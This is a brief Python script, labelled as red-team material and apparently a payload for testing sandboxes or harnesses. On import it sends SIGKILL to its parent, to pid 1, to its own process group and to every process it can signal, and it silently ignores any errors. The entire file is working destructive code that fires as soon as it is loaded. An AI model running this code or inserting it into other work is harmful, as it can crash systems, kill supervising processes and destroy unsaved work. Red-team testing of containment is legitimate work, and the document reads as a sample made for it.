# Red team: at load, kill the parent, the process group, every process it can signal, and pid 1.
import os
import signal

for target in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.kill(1, signal.SIGKILL),
               lambda: os.killpg(os.getpgid(0), signal.SIGKILL), lambda: os.kill(-1, signal.SIGKILL)):
    try:
        target()
    except OSError:
        pass
